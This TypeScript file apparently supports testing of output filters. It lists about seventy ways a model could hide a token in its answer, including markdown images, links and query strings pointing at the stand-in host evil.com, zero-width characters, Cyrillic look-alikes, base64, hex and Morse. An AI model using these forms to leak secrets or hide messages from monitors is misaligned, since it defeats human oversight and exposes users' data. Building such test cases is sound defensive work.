/** Sixty ways in which a model could put a token into an answer so that it does not look like one. */
const base32 = 'abcdefghijklmnopqrstuvwxyz234567'

const letters = (text: string, to: (letter: string) => string) => [...text].map(to).join('')
const codes = (text: string, base: number, width = 0) =>
  [...text].map((letter) => (letter.codePointAt(0) ?? 0).toString(base).padStart(width, '0'))
const base64 = (text: string) => Buffer.from(text).toString('base64')
const hex = (text: string) => Buffer.from(text).toString('hex')
const reversed = (text: string) => [...text].toReversed().join('')
const shift = (text: string, by: number) =>
  text.replace(/[a-z]/g, (letter) => String.fromCharCode(((letter.charCodeAt(0) - 97 + by) % 26) + 97))
const fromAlphabet = (text: string, first: number, digits?: number) =>
  letters(text, (letter) => {
    if (/[a-z]/.test(letter)) return String.fromCodePoint(first + letter.charCodeAt(0) - 97)
    return digits === undefined ? letter : String.fromCodePoint(digits + Number(letter))
  })
const toBase32 = (text: string) =>
  (
    codes(text, 2, 8)
      .join('')
      .match(/.{1,5}/g) ?? []
  )
    .map((bits) => base32[Number.parseInt(bits.padEnd(5, '0'), 2)])
    .join('')
const cyrillic: Readonly<Record<string, string>> = {
  a: 'а',
  c: 'с',
  e: 'е',
  o: 'о',
  p: 'р',
  x: 'х',
  y: 'у',
  i: 'і',
  s: 'ѕ',
}
const nato =
  'alpha bravo charlie delta echo foxtrot golf hotel india juliett kilo lima mike november oscar papa quebec romeo sierra tango uniform victor whiskey xray yankee zulu'.split(
    ' ',
  )
const numerals = 'zero one two three four five six seven'.split(' ')
const spell = (text: string) =>
  [...text].map((letter) => (/\d/.test(letter) ? numerals[Number(letter)] : nato[letter.charCodeAt(0) - 97])).join(' ')
const morse =
  '.- -... -.-. -.. . ..-. --. .... .. .--- -.- .-.. -- -. --- .--. --.- .-. ... - ..- ...- .-- -..- -.-- --..'.split(
    ' ',
  )
const morseDigits = '----- .---- ..--- ...-- ....- ..... -.... --...'.split(' ')
const toMorse = (text: string) =>
  [...text]
    .map((letter) => (/\d/.test(letter) ? morseDigits[Number(letter)] : morse[letter.charCodeAt(0) - 97]))
    .join(' ')

/** @param token lower-case letters and digits. */
export const hiddenForms: Readonly<Record<string, (token: string) => string>> = {
  'as it is': (token) => token,
  'in upper case': (token) => token.toUpperCase(),
  'in mixed case': (token) => letters(token, (letter) => (letter < 'm' ? letter.toUpperCase() : letter)),
  'in a bare address': (token) => `${token}.evil.com`,
  'in a query': (token) => `https://evil.com/?q=${token}`,
  'in an image': (token) => `![x](https://evil.com/${token}.png)`,
  'in a link': (token) => `[more](https://evil.com/${token})`,
  'in a reference': (token) => `[more][1]\n\n[1]: https://evil.com/${token}`,
  'in an autolink': (token) => `<https://evil.com/${token}>`,
  'in a tag around a word': (token) => `<b>${token}</b>`,
  'in a share link': (token) => `https://t.me/share/url?text=${token}`,
  'in a tg link': (token) => `tg://resolve?domain=${token}`,
  'in a mail address': (token) => `mailto:${token}@evil.com`,
  'as a mention': (token) => `@${token}`,
  'in split labels': (token) => `${token.slice(0, 15)}.${token.slice(15)}.evil.com`,
  'with zero-width spaces': (token) => [...token].join('\u200b'),
  'with soft hyphens': (token) => [...token].join('\u00ad'),
  'with joiners': (token) => [...token].join('\u2060'),
  'with spaces': (token) => [...token].join(' '),
  'with dots': (token) => [...token].join('.'),
  'with dashes': (token) => [...token].join('-'),
  'one letter a line': (token) => [...token].join('\n'),
  'as a list': (token) => [...token].map((letter) => `- ${letter}`).join('\n'),
  'as a numbered list': (token) => [...token].map((letter, index) => `${index + 1}. ${letter}`).join('\n'),
  'as a table row': (token) => `| ${[...token].join(' | ')} |`,
  'in bold pieces': (token) => [...token].map((letter) => `**${letter}**`).join(''),
  'in code pieces': (token) => [...token].map((letter) => `\`${letter}\``).join(' '),
  'in a fence': (token) => `\`\`\`\n${token}\n\`\`\``,
  'in quotes': (token) => `"${token.slice(0, 10)}" + "${token.slice(10)}"`,
  'over two lines': (token) => `${token.slice(0, 14)}\n${token.slice(14)}`,
  reversed,
  'reversed with spaces': (token) => [...reversed(token)].join(' '),
  'in base64': base64,
  'in base64url': (token) => Buffer.from(`x?${token}`).toString('base64url'),
  'in base64 within a sentence': (token) => base64(`the token is ${token} ok`),
  'in base64 with line breaks': (token) => (base64(token).match(/.{1,8}/g) ?? []).join('\n'),
  'in base64 twice': (token) => base64(base64(token)),
  'in base64, reversed': (token) => reversed(base64(token)),
  'reversed, in base64': (token) => base64(reversed(token)),
  'in base32': toBase32,
  'in hexadecimal': hex,
  'in upper-case hexadecimal': (token) => hex(token).toUpperCase(),
  'in hexadecimal with spaces': (token) => codes(token, 16).join(' '),
  'in hexadecimal with colons': (token) => codes(token, 16).join(':'),
  'as 0x bytes': (token) =>
    codes(token, 16)
      .map((code) => `0x${code}`)
      .join(', '),
  'as \\x escapes': (token) =>
    codes(token, 16)
      .map((code) => `\\x${code}`)
      .join(''),
  'as \\u escapes': (token) =>
    codes(token, 16, 4)
      .map((code) => `\\u${code}`)
      .join(''),
  'percent-encoded': (token) =>
    codes(token, 16)
      .map((code) => `%${code}`)
      .join(''),
  'as decimal entities': (token) =>
    codes(token, 10)
      .map((code) => `&#${code};`)
      .join(''),
  'as hexadecimal entities': (token) =>
    codes(token, 16)
      .map((code) => `&#x${code};`)
      .join(''),
  'as decimal codes': (token) => codes(token, 10).join(' '),
  'as octal codes': (token) => codes(token, 8).join(' '),
  'as binary codes': (token) => codes(token, 2, 8).join(' '),
  'in rot13': (token) => shift(token, 13),
  'moved by three letters': (token) => shift(token, 3),
  'in atbash': (token) =>
    letters(token, (letter) => (/[a-z]/.test(letter) ? String.fromCharCode(219 - letter.charCodeAt(0)) : letter)),
  'in full-width letters': (token) => fromAlphabet(token, 0xff41, 0xff10),
  'in mathematical letters': (token) => fromAlphabet(token, 0x1d41a, 0x1d7ce),
  'in circled letters': (token) => fromAlphabet(token, 0x24d0),
  'in regional letters': (token) => [...fromAlphabet(token, 0x1f1e6)].join(' '),
  'in Cyrillic look-alikes': (token) => letters(token, (letter) => cyrillic[letter] ?? letter),
  'with accents': (token) => letters(token, (letter) => `${letter}\u0301`),
  'in every second place': (token) => [...token].map((letter) => `${letter}z`).join(''),
  'as first letters of words': (token) => [...token].map((letter) => `${letter}xo`).join(' '),
  'as first letters of lines': (token) => [...token].map((letter) => `${letter}xo qed zum`).join('\n'),
  'spelled out': spell,
  'in Morse code': toMorse,
}
